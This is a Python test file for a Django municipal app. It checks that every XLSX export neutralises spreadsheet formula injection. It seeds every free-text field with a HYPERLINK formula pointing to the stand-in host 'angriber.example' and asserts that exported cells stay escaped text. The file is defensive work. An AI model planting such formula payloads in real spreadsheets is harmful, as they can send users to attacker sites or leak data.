"""No export writes a live formula: a leder's "=HYPERLINK(…)" in a purpose stays text in HR's workbook.

The attack: put formula-looking text into every free-text field of every record, download every XLSX
export the app has, and read every cell of every sheet back.
"""

import ast
import io
import pathlib
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from rummelig.core.spreadsheets import FORMULA_STARTS, Workbook
from rummelig.placements.models import Placement
from rummelig.procurement.models import Subcontractor, Tender
from rummelig.reports.models import Target
from rummelig.reports.publications import publish
from rummelig.testing import downloaded, make_person, make_placement

# Every export that writes a spreadsheet, with what it needs to be asked for. A new export URL
# (name ending in "export" or path in ".xlsx") must be added here, or the walk below fails.
EXPORTS = {
    "placements:export": (reverse("placements:export"), {}),
    "reports:annual_export": (reverse("reports:annual_export", args=["xlsx"]), {"year": 2026}),
    "imports:template": (reverse("imports:template"), {}),
    "med:load_template": (reverse("med:load_template"), {}),  # blank, but walked like every .xlsx
    "procurement:export": (reverse("procurement:export"), {}),
    # Made when asked: HR publishes the (poisoned) figures first, as for the Hovedudvalg.
    "reports:publication_export": (
        lambda world: reverse("reports:publication_export", args=[publish(date(2026, 6, 30), world.hr).pk, "xlsx"]), {},
    ),
}
TEMPLATES = {"imports:template", "med:load_template"}
# Fields whose text is an identity or is parsed, not free text typed by a user.
NOT_FREE_TEXT = {"cpr", "pending_cpr", "p_number", "path", "username", "password", "code", "source_hash", "token", "key"}


def formula(trigger, name):
    return f'{trigger}HYPERLINK("https://angriber.example/?{name}";"Klik")'


def _url_names(resolver, namespace=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _url_names(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", str(pattern.pattern)


def test_every_spreadsheet_export_url_is_walked_by_the_test():
    found = {name for name, route in _url_names(get_resolver()) if name.endswith("export") or ".xlsx" in route}
    assert found == set(EXPORTS)


def test_no_module_makes_an_openpyxl_workbook_but_core_spreadsheets():
    """A later export gets the escaping by default only if it cannot build a workbook another way."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl" and any(a.name == "Workbook" for a in node.names):
                offenders.append(str(path.relative_to(root)))
            if isinstance(node, ast.Attribute) and node.attr == "Workbook" and getattr(node.value, "id", "") == "openpyxl":
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


def _poison_every_free_text_field():
    """Write formula-looking text into every free-text field of every Rummelig record; return how many fields."""
    poisoned = 0
    for model in apps.get_models():
        if not model.__module__.startswith("rummelig.") or model._meta.app_label == "audit":
            continue
        unique_together = {name for c in model._meta.constraints for name in getattr(c, "fields", ())}
        fields = [
            f for f in model._meta.concrete_fields
            if isinstance(f, (models.CharField, models.TextField)) and not f.choices and not f.unique
            and f.editable and f.name not in NOT_FREE_TEXT and f.name not in unique_together
            and not f.validators[1:]  # a field with its own validator (P-number, CPR) is not free text
        ]
        for number, obj in enumerate(model.objects.all()):
            for index, field in enumerate(fields):
                trigger = FORMULA_STARTS[(number + index) % len(FORMULA_STARTS)]
                value = formula(trigger, f"{model._meta.model_name}.{field.name}")[: field.max_length or None]
                model.objects.filter(pk=obj.pk).update(**{field.name: value})
                poisoned += 1
    return poisoned


@pytest.fixture
def poisoned(world):
    for n, workplace in enumerate([world.solsikken, world.aabjerg, world.solsikken, world.aabjerg, world.solsikken, world.aabjerg]):
        make_placement(
            workplace, "fleksjob", make_person("Åse", f"Ærø {n}"), start=date(2026, 2, 1), hours_per_week=Decimal("15"),
            yearly_subsidy=Decimal("125000"), purpose="Pasning af have",
        )
    Placement.objects.filter(pk=Placement.objects.first().pk).update(yearly_subsidy=Decimal("-1500.50"))
    Target.objects.create(year=2026, unit=world.kommune, value=30, note="Byrådets beslutning")
    tender = Tender.objects.create(title="Rengøring", kind="tjenesteydelse", estimated_value=Decimal("2500000"), duration_months=12,
                                   procuring_unit=world.skovbrynet, supplier_name="Rent og Pænt ApS")
    Subcontractor.objects.create(tender=tender, name="Vinduespudseren")
    assert _poison_every_free_text_field() > 20


def _cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_any_export_is_a_formula_and_numbers_stay_numbers(world, poisoned, login, name):
    url, params = EXPORTS[name]
    url = url(world) if callable(url) else url
    response = login(world.hr).get(url, params)
    if name == "placements:export":  # made by the worker (rummelig.exports): the link leads to the file
        response = downloaded(response)
    assert response.status_code == 200, response.content[:300]
    cells = _cells(response.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [(c.coordinate, c.value) for c in risky if not c.quotePrefix]
    if name not in TEMPLATES:  # a blank template holds no record, only headers and guidance
        assert any("HYPERLINK" in c.value for c in risky), "the export shows the typed text, as text"
    if name == "placements:export":
        assert any("=HYPERLINK" in c.value for c in risky), "a leder's =HYPERLINK(…) in the purpose stays visible text"
        numbers = [c.value for c in cells if c.data_type == "n" and isinstance(c.value, (int, float))]
        assert -1500.5 in numbers and 15 in numbers, "a negative amount and the hours are numbers, not text"


def test_the_workbook_escapes_cells_however_they_were_written(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = "=1+1"
    sheet.cell(row=2, column=1, value="@SUM(A1)")
    sheet.append(["-2+3", -5, "\tx", "ok"])
    streamed = Workbook(write_only=True)
    streamed.create_sheet("s").append(["+1", -7.25, "=A1", None])
    for book, name in ((workbook, "a.xlsx"), (streamed, "b.xlsx")):
        book.save(tmp_path / name)
        cells = [c for c in _cells((tmp_path / name).read_bytes()) if c.value is not None]
        assert not [c for c in cells if c.data_type == "f"]
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[0] in "=+-@\t")
        assert [c.value for c in cells if c.data_type == "n"] in ([-5], [-7.25])
